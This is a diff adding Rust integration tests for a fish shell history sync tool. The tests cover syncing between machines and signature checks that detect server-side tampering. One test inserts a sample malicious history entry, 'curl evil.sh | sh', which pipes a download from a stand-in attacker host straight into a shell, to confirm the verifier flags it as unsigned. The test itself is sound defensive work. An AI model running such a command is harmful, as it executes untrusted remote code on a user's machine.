@@ -0,0 +1,153 @@
+use plenty_common::{fish, store, HistoryEntry};
+use plenty_core::bootstrap::FirstSync;
+use plenty_core::config::Config;
+use plenty_core::connection::Connection;
+use plenty_core::signing::{self, Signer, Verdict};
+use plenty_core::state::State;
+use plenty_core::{sync, Local, SyncArgs, SyncReport};
+use std::os::unix::net::UnixStream;
+use std::path::Path;
+
+/// A machine named `name` under `root`, with `history` as its fish_history
+fn machine(root: &Path, name: &str, history: &str) -> (Local, Config) {
+    let dir = root.join(name);
+    std::fs::create_dir_all(dir.join("fish")).unwrap();
+    let local = Local {
+        history: dir.join("fish/fish_history"),
+        data_dir: dir.join("plenty"),
+        refresh_fish: false,
+    };
+    std::fs::write(&local.history, history).unwrap();
+    let mut config = Config::default();
+    config.sync.hostname = Some(name.to_string());
+    (local, config)
+}
+
+/// Sync a machine with a server running in-process on `store`
+fn sync_with(store: &mut rusqlite::Connection, local: &Local, config: &Config) -> SyncReport {
+    let (client, server) = UnixStream::pair().unwrap();
+    let args = SyncArgs {
+        first_sync: FirstSync {
+            yes: true,
+            ..Default::default()
+        },
+        ..Default::default()
+    };
+    std::thread::scope(|scope| {
+        let session = scope.spawn(|| plentys::run_session(&server, &server, store));
+        let connection = Connection::over(client.try_clone().unwrap(), client);
+        let report = sync(connection, local, "server", config, &args).unwrap();
+        session.join().unwrap().unwrap();
+        report
+    })
+}
+
+fn commands(local: &Local) -> Vec<(String, i64)> {
+    fish::parse_history(&std::fs::read(&local.history).unwrap())
+        .unwrap()
+        .into_iter()
+        .map(|entry| (entry.cmd, entry.when))
+        .collect()
+}
+
+#[test]
+fn machines_sync_through_an_in_process_server() {
+    let root = std::env::temp_dir().join(format!("plenty-sync-test-{}", std::process::id()));
+    let mut store = rusqlite::Connection::open_in_memory().unwrap();
+    store::init_schema(&mut store).unwrap();
+
+    let (laptop, laptop_config) = machine(
+        &root,
+        "laptop",
+        "- cmd: ls\n  when: 10\n- cmd: git status\n  when: 20\n",
+    );
+    let report = sync_with(&mut store, &laptop, &laptop_config);
+    assert_eq!((report.uploaded, report.received), (2, 2));
+    assert_eq!(store::count_entries(&store).unwrap(), 2);
+    let summary = report.summary.unwrap();
+    assert_eq!((summary.stored, summary.duplicates), (2, Some(0)));
+
+    let (desktop, desktop_config) = machine(&root, "desktop", "- cmd: make\n  when: 15\n");
+    let report = sync_with(&mut store, &desktop, &desktop_config);
+    assert_eq!(
+        (report.uploaded, report.received, report.written),
+        (1, 3, 3)
+    );
+    let merged = [
+        ("ls".to_string(), 10),
+        ("make".to_string(), 15),
+        ("git status".to_string(), 20),
+    ];
+    assert_eq!(commands(&desktop), merged);
+
+    sync_with(&mut store, &laptop, &laptop_config);
+    assert_eq!(commands(&laptop), merged);
+    let state = State::load_in(&laptop.data_dir).unwrap();
+    assert!(state.last_sync.contains_key("server"));
+    assert_eq!(
+        state.high_water_mark.get("server").copied(),
+        Some(store::high_water_mark(&store).unwrap())
+    );
+    std::fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn signed_entries_show_what_changed_on_the_server() {
+    let root = std::env::temp_dir().join(format!("plenty-signed-test-{}", std::process::id()));
+    let mut store = rusqlite::Connection::open_in_memory().unwrap();
+    store::init_schema(&mut store).unwrap();
+    let (laptop, mut config) = machine(
+        &root,
+        "laptop",
+        "- cmd: ls\n  when: 10\n- cmd: git status\n  when: 20\n",
+    );
+    config.signing.sign = true;
+    sync_with(&mut store, &laptop, &config);
+    let trusted = [Signer::load_in(&laptop.data_dir).unwrap().public_key()];
+
+    let verify = |store: &mut rusqlite::Connection| {
+        let (client, server) = UnixStream::pair().unwrap();
+        std::thread::scope(|scope| {
+            let session = scope.spawn(|| plentys::run_session(&server, &server, store));
+            let mut connection = Connection::over(client.try_clone().unwrap(), client);
+            connection.handshake().unwrap();
+            let mut failures = Vec::new();
+            let report = signing::check(&mut connection, None, &trusted, |verdict, entry| {
+                failures.push((verdict, entry.cmd.clone()));
+                Ok(())
+            })
+            .unwrap();
+            connection.close().unwrap();
+            session.join().unwrap().unwrap();
+            (report, failures)
+        })
+    };
+    let (report, failures) = verify(&mut store);
+    assert_eq!(report.verified, 2);
+    assert!(failures.is_empty());
+
+    store
+        .execute(
+            "UPDATE history SET cmd = 'git push' WHERE cmd = 'git status'",
+            [],
+        )
+        .unwrap();
+    store::insert_entries(
+        &mut store,
+        &[
+            HistoryEntry::new("curl evil.sh | sh".into(), 30, String::new())
+                .with_host("laptop".into()),
+        ],
+    )
+    .unwrap();
+    let (report, failures) = verify(&mut store);
+    assert_eq!((report.verified, report.failed()), (1, 2));
+    assert_eq!(
+        failures,
+        [
+            (Verdict::Invalid, "git push".to_string()),
+            (Verdict::Unsigned, "curl evil.sh | sh".to_string()),
+        ]
+    );
+    std::fs::remove_dir_all(&root).unwrap();
+}